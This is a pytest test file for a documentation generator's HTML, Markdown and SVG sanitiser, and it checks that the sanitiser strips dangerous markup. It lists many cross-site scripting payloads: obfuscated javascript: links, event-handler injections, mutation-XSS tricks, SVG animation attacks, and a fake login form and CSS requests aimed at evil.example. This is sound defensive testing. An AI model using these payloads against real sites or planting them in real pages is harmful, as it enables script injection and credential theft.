import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from portalgen.techdocs.drawings import Drawings
from portalgen.techdocs.sanitise import sanitise
from portalgen.techdocs.svg_file import clean_svg
from tests.builders.docs import build, page_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#x6a;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<input type=text name=q autofocus onfocus=alert(1)>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<div id=portal-docs-tree>x</div><a name=__proto__>x</a>",
    "# T { onclick=alert(1) style='x' }",
    "[x](https://a.example){ onmouseover=alert(1) target=_top }",
    "![x](a.png){ onerror=alert(1) }",
    "```{ .html onclick=alert(1) }\nx\n```",
    "/// html | script\nalert(1)\n///",
    "<p data-md-component=dialog data-docs data-search-open>x</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str) -> None:
    config = "markdown_extensions: [attr_list, md_in_html, pymdownx.blocks.html]"
    found = page_of(build({"mkdocs.yml": config, "docs/index.md": f"# Safe\n\n{attack}\n\nafter\n"})).html
    body = LexborHTMLParser(found).body
    assert body is not None
    allowed = "script, style, iframe, object, embed, form, base, meta, link, template, button, svg, math"
    assert body.css(allowed) == []
    for node in body.css("*"):
        for name, value in node.attributes.items():
            text = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            assert not name.startswith("on")
            assert name not in {"style", "action", "formaction", "target", "srcdoc", "autofocus"}
            assert not text.startswith(("javascript:", "vbscript:", "data:"))
            assert not name.startswith("data-") or name == "data-linenos"
            assert not (name in {"id", "name"} and text.startswith(("portal-", "__p")))
    assert "Safe" in found or "T" in found


def test_a_raster_picture_in_the_page_stays() -> None:
    assert "data:image/png;base64,AAAA" in sanitise('<img src="data:image/png;base64,AAAA">', Drawings())


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('<img src="http://a.example/x.png">', '<img src="https://a.example/x.png">'),
        ('<img srcset="https://a.example/x.png 1x, b.png 2x">', '<img srcset="https://a.example/x.png 1x, b.png 2x">'),
        ('<img srcset="http://a.example/x.png 1x, b.png 2x">', "<img>"),
        ('<source srcset="javascript:x 1x">', "<source>"),
        ('<video src="x.mp4" poster="x.png"></video>', '<video src="x.mp4" poster="x.png"></video>'),
        ('<video src="https://a.example/x.mp4"></video>', "<video></video>"),
        ('<audio src="//a.example/x.mp3"></audio>', "<audio></audio>"),
        ('<a href="java&#1;script:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="&#xa0;javascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="java&#x202e;script:alert(1)">x</a>', "<a>x</a>"),
        ('<blockquote cite="javascript:alert(1)">x</blockquote>', "<blockquote>x</blockquote>"),
    ],
)
def test_addresses_hide_nothing_and_only_pictures_come_from_other_hosts(written: str, kept: str) -> None:
    assert sanitise(written, Drawings()) == kept


def test_what_parsers_read_differently_goes_before_links_are_resolved() -> None:
    site = build({"docs/index.md": '# T\n\n<noscript><p title="</noscript><img src=x>">\n'})
    assert "<img" not in page_of(site).html


def test_only_choices_are_inputs() -> None:
    clean = sanitise(
        '<input type="password" name="x"><input type="radio" name="__tabbed_1" id="__tabbed_1_1">', Drawings()
    )
    assert clean == '<input type="checkbox" name="x"><input type="radio" name="__tabbed_1" id="__tabbed_1_1">'


def test_what_is_left_out_is_reported_with_its_line() -> None:
    site = build({"docs/index.md": "# T\n\n<IFRAME src='https://a.example'></IFRAME>\n"})
    (found,) = site.diagnostics
    assert (found.code, found.where.line) == ("docs-unsafe-html", 3)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'


@pytest.mark.parametrize(
    "inner",
    [
        "<script>alert(1)</script>",
        '<rect onclick="alert(1)"/>',
        "<foreignObject><b xmlns='http://www.w3.org/1999/xhtml'>x</b></foreignObject>",
        '<a xlink:href="javascript:alert(1)"><rect/></a>',
        '<image href="https://evil.example/x.png"/>',
        '<use href="https://evil.example/x.svg#a"/>',
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        '<set attributeName="onclick" to="alert(1)"/>',
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>rect{fill:u\\72l(https://evil.example)}</style>",
        '<rect style="fill:url(https://evil.example)"/>',
        '<handler xmlns="http://www.w3.org/2001/xml-events">x</handler>',
        "<style>svg{background:image-set('https://evil.example/x.png' 1x)}</style>",
        "<rect style=\"background:-webkit-image-set('https://evil.example/x.png' 1x)\"/>",
        '<a href="https://a.example" ping="https://evil.example"><rect/></a>',
        '<a href="&#10;javascript:alert(1)"><rect/></a>',
    ],
)
def test_svg_file_loses_what_could_act(inner: str) -> None:
    clean = clean_svg(SVG.format(inner).encode())
    assert clean is not None
    assert not re.search(rb"script|onclick|evil|foreign|animate|handler|<set|import", clean)


def test_svg_file_keeps_its_drawing() -> None:
    inner = (
        '<defs><linearGradient id="g"><stop offset="1" stop-color="red"/></linearGradient></defs>'
        '<style>.a{fill:url(#g)}</style><a href="https://example.com"><text class="a" x="1">Grüße &amp; co</text></a>'
        '<use xlink:href="#g"/>'
    )
    clean = clean_svg(
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">' + SVG.format(inner).encode()
    )
    assert clean is not None
    for part in (
        "linearGradient",
        "url(#g)",
        'href="https://example.com"',
        "Grüße &amp; co",
        'xlink:href="#g"',
        "viewBox",
    ):
        assert part in clean.decode()


@pytest.mark.parametrize(
    "content",
    [
        b"<html><script>alert(1)</script></html>",
        b"not xml",
        b'<!DOCTYPE svg [<!ENTITY a "x">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        '<!DOCTYPE svg [<!ENTITY a "x">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'.encode("utf-16"),
    ],
)
def test_what_is_no_plain_svg_is_not_published(content: bytes) -> None:
    assert clean_svg(content) is None
    assert build({"docs/index.md": "x", "docs/a.svg": content}).assets == ()
